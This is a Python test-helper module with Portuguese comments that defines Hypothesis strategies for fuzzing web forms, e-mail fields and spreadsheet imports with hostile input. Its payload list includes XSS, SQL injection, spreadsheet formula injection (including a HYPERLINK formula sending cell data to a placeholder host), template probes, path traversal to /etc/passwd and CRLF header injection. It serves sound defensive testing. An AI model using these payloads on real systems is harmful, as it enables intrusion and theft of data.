"""Estratégias Hypothesis de entrada hostil, para reuso nos testes de formulários e importações.

Uso típico::

    @settings(max_examples=2000, deadline=None)
    @given(dados=st.fixed_dictionaries({"nome": textos_hostis(), "email": emails_hostis()}))
    def test_formulario_x_sem_500(dados): ...
"""

import string

from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

# Cargas clássicas: HTML/JS, injeção de fórmulas em planilhas (CSV/XLSX), SQL,
# templates, caminhos, quebras de cabeçalho e Unicode traiçoeiro.
CARGAS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "javascript:alert(document.cookie)",
    "' OR '1'='1' --",
    "'; DROP TABLE candidatos_inscricao; --",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://exemplo.invalid/?"&A1,"clique")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "{{ 7|add:7 }}",
    "{% debug %}",
    "%s%s%s%n",
    "../../../../etc/passwd",
    "a\r\nSet-Cookie: sessao=roubada",
    "\x00",
    "\u202egnp.exe",
    "\u200b\u200c\u200d\ufeff",
    "Z\u0351\u0352\u0353\u0354a\u0355\u0356l\u0357\u0358g\u0359o",
    "👩🏿‍⚖️✊🏾🇧🇷",
    "Ǆǅǆ ﬁ ẞ İı",
    "١٢٣٤٥",
    "𝕬𝖑𝖎𝖈𝖊",
    "NaN",
    "-0",
    "1e309",
    "9" * 40,
    "null",
    "true",
)
CARACTERES_DE_CONTROLE = "".join(chr(c) for c in range(32)) + "\x7f"


def cargas() -> st.SearchStrategy[str]:
    return st.sampled_from(CARGAS)


def textos_longos() -> st.SearchStrategy[str]:
    """De um pouco acima dos limites comuns de campo (150, 254, 255) a 20 mil caracteres."""
    return st.builds(
        lambda bloco, vezes: bloco * vezes,
        st.sampled_from(["A", "ç", "👩🏿", "<b>", "=", " ", "\u0301"]),
        st.integers(min_value=150, max_value=20_000),
    )


def textos_hostis() -> st.SearchStrategy[str]:
    """Qualquer coisa que uma pessoa mal-intencionada (ou um sistema quebrado) digitaria."""
    return st.one_of(
        st.text(),
        st.text(alphabet=CARACTERES_DE_CONTROLE, min_size=1),
        cargas(),
        textos_longos(),
        st.tuples(st.text(max_size=20), cargas(), st.text(max_size=20)).map("".join),
        st.lists(cargas(), min_size=2, max_size=5).map("".join),
    )


def emails_hostis() -> st.SearchStrategy[str]:
    """E-mails quase válidos, válidos com cargas e lixo puro."""
    local = st.one_of(
        st.text(alphabet=string.ascii_letters + string.digits + "._+-", min_size=1, max_size=64),
        textos_hostis(),
    )
    dominio = st.one_of(st.sampled_from(["exemplo.gov.br", "exemplo.com", "localhost"]), st.text())
    return st.one_of(
        st.builds(lambda a, b: f"{a}@{b}", local, dominio),
        st.emails(),
        textos_hostis(),
    )


def sem_ilegais_xlsx(texto: str) -> str:
    """O XLSX (XML 1.0) não representa caracteres de controle: o gerador os tira."""
    return ILLEGAL_CHARACTERS_RE.sub("", texto)


def celulas_hostis() -> st.SearchStrategy[object]:
    """Conteúdo de célula de planilha: textos hostis e os tipos que o Excel produz."""
    return st.one_of(
        textos_hostis(),
        st.none(),
        st.integers(),
        st.floats(allow_nan=True, allow_infinity=True),
        st.booleans(),
        st.dates(),
        st.datetimes(),
    )


def celulas_xlsx() -> st.SearchStrategy[object]:
    return celulas_hostis().map(lambda v: sem_ilegais_xlsx(v) if isinstance(v, str) else v)


def linhas_de_planilha(
    celulas: st.SearchStrategy[object], max_linhas: int = 8, max_colunas: int = 6
) -> st.SearchStrategy[list[list[object]]]:
    """Cabeçalho + linhas de tamanhos variados (faltando e sobrando colunas)."""
    return st.integers(min_value=1, max_value=max_colunas).flatmap(
        lambda n: (
            st.lists(
                st.lists(celulas, min_size=0, max_size=n + 2), min_size=0, max_size=max_linhas
            ).map(lambda corpo, n=n: [[f"coluna {i}" for i in range(n)], *corpo])
            | st.lists(
                st.lists(celulas, min_size=0, max_size=n + 2), min_size=1, max_size=max_linhas
            )
        )
    )
